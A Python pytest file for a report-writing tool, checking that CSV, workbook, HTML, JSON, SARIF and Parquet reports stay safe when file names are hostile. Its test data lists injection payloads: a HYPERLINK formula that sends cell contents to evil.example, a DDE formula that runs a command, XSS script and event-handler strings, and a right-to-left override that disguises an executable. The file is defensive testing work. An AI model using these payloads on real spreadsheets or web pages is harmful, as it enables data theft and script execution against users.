"""Whatever files are called: no report of any kind runs it, is broken by it, or shows it as something else.

Each kind that is in the table of kinds is tested, a new one too.
"""

from __future__ import annotations

import csv
import html.parser
import io
import json
import os
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import unquote
from xml.etree import ElementTree as ET

import openpyxl
import pytest

from meibo.configuration.report_kinds import REPORT_KINDS
from meibo.inventory.model import FileResult, Issue, Status, StoredPosition
from meibo.inventory.reader import Reader
from meibo.reports.model import ReportOptions
from meibo.reports.registry import write_report
from meibo_connectors.names import escape
from report_parts import PARQUET, take_apart

MakeFile = Callable[..., FileResult]
MakeInventory = Callable[..., Reader]
KINDS = [kind.id for kind in REPORT_KINDS]

HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1,"開く").csv', "+cmd|' /C calc'!A0.txt", "-2+3.txt", "@SUM(1+1).txt",
    "＝1＋1.txt", "\t=1+1.txt", "\r=1+1.txt", "<script>alert(1)</script>.html", '"><img src=x onerror=alert(1)>.txt',
    "</script><svg onload=alert(1)>.txt", "<!--x.txt", "]]>x.txt", "<r>1</r>.txt", "${alert(1)}{{7*7}}.txt",
    "javascript:alert(1)", "[開く](https://evil.example).txt", "請求書\u202excod.exe", "\u2066名簿\u2069.txt",
    "nul\0.txt", "esc\x1b[2J.txt", "c1\x9b31m.txt", "del\x7f.txt", "行\u2028末.txt", "改行\n.txt", "\ufffe\uffff.txt",
    "長" * 32_767, "🧑‍👩‍👧‍👦😀" * 20 + ".txt", "é" * 50 + ".txt", "'quoted'.txt", "a\\x41.txt",
    "%2e%2e%2f.txt", "CON", "_x000D_.txt", escape(b"\x96\xbc\x95\xeb.txt"), escape(os.fsencode("a\udcff.txt")),
    escape("a\ud800.txt".encode("utf-8", "surrogatepass")),
)  # fmt: skip
STEERING = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069\ufffe\uffff]")
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@pytest.fixture
def hostile(make_file: MakeFile, make_inventory: MakeInventory) -> Reader:
    """Files of such names in folders of such names, of owners of such names, with such members, sheets, labels and
    masks; one in three could not be read."""
    files = []
    for number, name in enumerate(HOSTILE):
        position = StoredPosition(
            detector="jp_my_number", location={"sheet": name, "cell": "B5"}, start=0, end=12, score=95,
            evidence=(f"column:{name}",), fingerprint=bytes(32), masked=name[:40], container=(name, name),
        )  # fmt: skip
        is_read = number % 3 != 2
        files.append(
            make_file(
                f"{HOSTILE[number - 1]}/{name}",
                counts={"jp_my_number": (0, 0, 1)} if is_read else {},
                positions=(position,) if is_read else (),
                persons=(1, 1) if is_read else (0, 0),
                status=Status.COMPLETE if is_read else Status.SKIPPED,
                issues=() if is_read else (Issue("extract", "image-only", name[:40]),),
                owner=name,
            )
        )
    return make_inventory(files, tuple((name, Issue("list", "permission-denied", "EACCES")) for name in HOSTILE))


@pytest.fixture(params=KINDS)
def report(request: pytest.FixtureRequest, hostile: Reader, japanese: ReportOptions, tmp_path: Path) -> Path:
    """The report of each kind on them, in Japanese."""
    place = tmp_path / f"report.{request.param}"
    write_report(request.param, hostile, 1, place, japanese)
    return place


def test_nothing_steers_who_looks_at_it(report: Path) -> None:
    """No control character and none that turns the writing direction stands in a part as it is; Parquet has no look."""
    parts = {name: part for name, part in take_apart(report).items() if not part.startswith(PARQUET)}
    assert parts
    for name, part in parts.items():
        found = STEERING.search(part.decode("utf-8"))
        assert found is None, (name, part.decode()[max(found.start() - 40, 0) : found.end() + 10])


def test_every_part_is_whole(report: Path) -> None:
    """XML and JSON can be read; so can workbooks, and not one of their cells is a formula, not even as text."""
    for name, part in take_apart(report).items():
        if name.endswith((".xml", ".rels", ".vml")):
            ET.fromstring(part)  # noqa: S314 - our own report
            assert b"<f>" not in part, name
            assert b"<f " not in part, name
        elif part.startswith(b"{"):
            assert [json.loads(line) for line in part.splitlines()] if b'"runs"' not in part else json.loads(part)
    for place in [report] if report.is_file() else sorted(report.rglob("*.xlsx")):
        if place.read_bytes().startswith(b"PK"):
            book = openpyxl.load_workbook(io.BytesIO(place.read_bytes()))
            cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
            assert not [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink is not None]


class _Elements(html.parser.HTMLParser):
    """Collects what a browser would act upon."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self._is_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._is_script = tag == "script" and "json" not in (dict(attrs).get("type") or "")
        for name, value in attrs:
            if name.startswith("on") or (value or "").lower().lstrip().startswith("javascript:"):
                self.found.append(f"{tag} {name}={value}")
            if name in ("src", "href") and (value or "").startswith(("http:", "https:", "//")):
                self.found.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        if self._is_script and "alert(1)" in data:
            self.found.append(data[:80])


def test_no_name_becomes_markup(report: Path) -> None:
    """In what is HTML no name makes an element, a handler, a script or a link."""
    for name, part in take_apart(report).items():
        if b"<html" not in part[:2000].lower():
            continue
        browser = _Elements()
        browser.feed(part.decode())
        browser.close()
        assert browser.found == [], name


def test_the_check_of_markup_sees_what_it_should() -> None:
    for bad in ("<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<a href=' JavaScript:x'>"):
        browser = _Elements()
        browser.feed(f"<html>{bad}")
        browser.close()
        assert browser.found


def _paths_of_json(content: bytes) -> set[str]:
    return {json.loads(line)["path"] for line in content.splitlines()}


def _paths_of_sarif(content: bytes) -> set[str]:
    results: list[dict[str, Any]] = json.loads(content)["runs"][0]["results"]
    places = [result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for result in results]
    return {unquote(uri, errors="strict") for uri in places}


def _paths_of_parquet(content: bytes) -> set[str]:
    from pyarrow import parquet

    return set(parquet.read_table(io.BytesIO(content))["path"].to_pylist())


@pytest.mark.parametrize(
    ("kind", "read"), [("jsonl", _paths_of_json), ("sarif", _paths_of_sarif), ("parquet", _paths_of_parquet)]
)
def test_programs_get_every_name_as_it_is(
    kind: str, read: Callable[[bytes], set[str]], hostile: Reader, english: ReportOptions, tmp_path: Path
) -> None:
    write_report(kind, hostile, 1, tmp_path / "report", english)
    wanted = {f"{HOSTILE[at - 1]}/{name}" for at, name in enumerate(HOSTILE) if at % 3 != 2}
    assert read((tmp_path / "report").read_bytes()) == wanted


def test_no_cell_of_the_csv_begins_a_formula(hostile: Reader, english: ReportOptions, tmp_path: Path) -> None:
    """Nor is any longer than a spreadsheet's cell, and there is one row a file."""
    write_report("csv", hostile, 1, tmp_path / "report", english)
    with (tmp_path / "report").open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    assert len(rows) == 1 + len(HOSTILE)
    cells = [cell for row in rows for cell in row if not re.fullmatch(r"-?\d+(\.\d+)?", cell)]
    assert not [cell for cell in cells if cell.startswith(FORMULA)]
    assert max(map(len, cells)) <= 32_767
